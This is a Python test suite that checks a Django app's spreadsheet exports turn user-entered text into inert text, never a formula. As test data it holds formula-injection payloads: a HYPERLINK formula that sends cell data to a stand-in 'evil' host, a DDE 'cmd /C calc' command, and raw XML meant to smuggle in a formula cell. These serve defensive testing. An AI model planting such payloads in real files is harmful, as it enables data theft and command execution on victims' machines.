"""Exports never carry a formula from user data (SECURITY.md SEC-FILE-03, OWASP ASVS 5.0 §1.2.10)."""

from __future__ import annotations

import io
import re
from datetime import UTC, date, datetime
from decimal import Decimal

import openpyxl
import pytest
from django.utils.functional import lazy
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from guozi.core.exports import export_cell, safe_cell, xlsx_bytes
from guozi.core.testing import client_for

#: Characters a spreadsheet reads as the start of a formula (or, with CR/tab/NUL, hides one behind).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\0")
#: Excel's longest cell text; xlsxwriter cuts longer strings there.
EXCEL_MAX = 32767
_OOXML_ESCAPE = re.compile(r"_x([0-9A-Fa-f]{4})_")

#: Text a user could type, weighted towards the dangerous starts.
user_text = st.one_of(
    st.text(max_size=60),
    st.builds(lambda start, rest: start + rest, st.sampled_from((*FORMULA_START, " =", "'=", "＝")), st.text()),
    st.sampled_from(
        ['=HYPERLINK("http://evil/?"&A1,"点我")', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "-2+3", "+86 715"]
    ),
)


def unescape(text: str) -> str:
    """Undo the OOXML string escape (ECMA-376 §22.9.2.19) that Excel applies on opening and openpyxl does not."""
    return _OOXML_ESCAPE.sub(lambda m: chr(int(m.group(1), 16)), text)


def read_back(content: bytes) -> list[list[openpyxl.cell.cell.Cell]]:
    return [list(row) for row in openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows()]


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(header=st.lists(user_text, min_size=1, max_size=3), rows=st.lists(st.lists(user_text, max_size=3), max_size=4))
def test_any_text_comes_back_as_the_same_plain_text_never_a_formula(header: list[str], rows: list[list[str]]) -> None:
    sheet = read_back(xlsx_bytes("导出", header, rows))
    for written, cells in zip([header, *rows], sheet, strict=False):
        for value, cell in zip(written, cells, strict=False):
            if value == "":
                assert cell.value in (None, "")
                continue
            # A text cell, never a formula (openpyxl would say "f").
            assert cell.data_type == "s", (value, cell.value)
            text = unescape(cell.value)
            assert text == safe_cell(value)[:EXCEL_MAX]
            assert not text.startswith(FORMULA_START)


def test_the_known_injections_are_neutralised() -> None:
    attacks = ['=HYPERLINK("http://evil")', "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\0=1"]
    _, cells = read_back(xlsx_bytes("t", ["x"] * len(attacks), [attacks]))
    assert [unescape(c.value) for c in cells] == ["'" + a for a in attacks]
    assert {c.data_type for c in cells} == {"s"}


def test_text_that_xlsxwriter_would_copy_as_markup_stays_text() -> None:
    """In constant-memory mode xlsxwriter writes "<r>…</r>" into the XML as it is: no formula cell may come of it."""
    markup = '<r><t>a</t></r></is></c><c r="B2"><f>1+1</f><v>2</v></c><c r="C2" t="inlineStr"><is><r><t>b</t></r>'
    sheet = read_back(xlsx_bytes("t", ["x"], [[markup]]))
    assert [(c.value, c.data_type) for c in sheet[1]] == [("'" + markup, "s")]


def test_numbers_and_dates_stay_numbers_and_anything_else_becomes_safe_text() -> None:
    lazy_formula = lazy(lambda: "=1+2", str)()
    assert export_cell(Decimal("1.5")) == Decimal("1.5")
    assert export_cell(-3) == -3  # a negative number is a number, not a formula
    assert export_cell(date(2025, 9, 30)) == date(2025, 9, 30)
    assert export_cell(lazy_formula) == "'=1+2"
    aware = datetime(2025, 9, 30, 16, 0, tzinfo=UTC)
    assert export_cell(aware) == datetime(2025, 10, 1, 0, 0)  # Asia/Shanghai wall time
    sheet = read_back(xlsx_bytes("t", ["a", "b", "c"], [[lazy_formula, aware, None]]))
    assert sheet[1][0].value == "'=1+2"


@pytest.mark.usefixtures("demo_world")
def test_a_list_export_through_the_page_neutralises_a_formula_typed_into_a_record() -> None:
    from guozi.core.models import Organization

    Organization.objects.filter(short_name="双鹤驾校").update(region='=HYPERLINK("http://evil","x")')
    response = client_for("chengfa").get("/core/organization/export/")
    assert response.status_code == 200
    assert response.streaming  # written to a temporary file, then streamed
    texts = [unescape(str(c.value)) for row in read_back(response.getvalue()) for c in row if c.value is not None]
    assert '\'=HYPERLINK("http://evil","x")' in texts
    assert not any(t.startswith("=") for t in texts)
